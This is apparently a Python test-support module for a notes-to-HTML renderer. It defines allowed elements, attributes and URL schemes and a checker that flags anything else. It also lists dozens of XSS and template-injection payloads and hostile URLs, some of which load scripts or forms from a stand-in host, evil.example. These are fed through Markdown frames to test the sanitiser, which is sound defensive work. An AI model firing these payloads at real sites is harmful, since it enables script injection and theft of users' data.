"""Strings that try to become markup, and what a page made of notes may contain."""

import re
from collections.abc import Iterator
from itertools import product

from selectolax.lexbor import LexborHTMLParser

ELEMENTS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "span", "a", "img", "mark", "kbd", "sub", "sup", "input"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "aside", "details", "summary", "section"),
    *("div", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {
    "a": {"href", "class", "rel", "title", "id", "download"},
    "img": {"src", "alt", "title", "width", "height", "loading", "decoding"},
    "input": {"type", "disabled", "checked"},
    "pre": {"tabindex"},
    "div": {"class", "tabindex"},
    "details": {"open", "class"},
    "ol": {"start", "class"},
    "th": {"style"},
    "td": {"style"},
}
EVERYWHERE = {"class", "id"}
ALIGNMENTS = {"text-align:left", "text-align:right", "text-align:center"}
OWN_PLACES = ("/", "#", "https://", "mailto:")


def strange(html: str) -> list[str]:
    """Every element, attribute and address that a page must not hold, as a browser would see it."""
    return list(_strange(LexborHTMLParser(f"<!doctype html><body>{html}")))


def _strange(page: LexborHTMLParser) -> Iterator[str]:
    for element in page.css("body *"):
        name = str(element.tag)
        if name not in ELEMENTS:
            yield f"<{name}>"
        for attribute, value in element.attributes.items():
            if attribute not in ATTRIBUTES.get(name, set()) | EVERYWHERE:
                yield f"<{name} {attribute}={value!r}>"
            elif attribute == "style" and value not in ALIGNMENTS:
                yield f"style={value!r}"
            elif attribute in {"href", "src"} and not is_own(value or ""):
                yield f"{attribute}={value!r}"
        if name == "img" and not (element.attributes.get("src") or "").startswith("/media/"):
            yield f"image {element.attributes.get('src')!r}"


def is_own(address: str) -> bool:
    """Whether a browser stays here with an address, or leaves by https or mailto."""
    seen = (
        "".join(c for c in address if c not in "\t\n\r").strip("".join(map(chr, range(33)))).replace("\\", "/").lower()
    )
    if seen.startswith("//"):
        return False
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen)
    return scheme is None or scheme[1] in {"https", "mailto"}


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' ",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<details ontoggle=alert(1)>\n\nx\n\n</details>",
    '<details open="" ontoggle=alert(1)>\n<summary onclick=alert(1)>x</summary>\n</details>',
    "<details>\n<summary><img src=x onerror=alert(1)></summary>\n\n<script>1</script>\n\n</details>",
    "<kbd onclick=alert(1)>x</kbd>",
    "<kbd><script>alert(1)</script></kbd>",
    "<sub style=position:fixed>x</sub>",
    "<br onload=alert(1)>",
    "<br/onload=alert(1)>",
    "<sup\nonclick=alert(1)>x</sup>",
    "</p><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-->\n<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>1</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='x' onmouseover=alert(1)>x</a>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '`"><script>alert(1)</script>`',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>1</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<portal src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<x onclick=alert(1)>",
    "<x:script>1</x:script>",
    "{{7*7}}",
    "{% raw %}",
    "{{ ''.__class__ }}",
    "${7*7}",
    "<%= 7*7 %>",
    "\u2028<script>1</script>",
    "\ufeff<script>1</script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "/%5Cevil.example",
    "%2F%2Fevil.example",
    "/%09/evil.example",
    "http://evil.example",
    "ftp://evil.example",
    "blob:https://x/1",
    "filesystem:https://x/1",
    "view-source:x",
    "about:blank",
    "tel:1",
    "ws://x",
    "chrome://settings",
    "intent://x",
    "jar:https://x!/",
    "feed:javascript:alert(1)",
    "x:javascript:alert(1)",
    "&Tab;javascript:alert(1)",
    "&NewLine;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "/&#9;/evil.example",
    "&#47;/evil.example",
]
_FRAMES = [
    "{}",
    "# {}",
    "- {}",
    "> [!{}] {}",
    "> [!note]- {}",
    "| {} |\n| --- |\n| {} |",
    "```{}\n{}\n```",
    "[^1]\n\n[^1]: {}",
    "=={}==",
]
_LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[[{}]]",
    "![[{}.png]]",
    "[[x|{}]]",
    '[{}](x.md "{}")',
]


def texts() -> Iterator[str]:
    """Every hostile string in every place of a note where it could turn into markup."""
    for frame, payload in (*product(_FRAMES, PAYLOADS), *product(_LINKS, (*ADDRESSES, *PAYLOADS))):
        yield frame.replace("{}", payload)
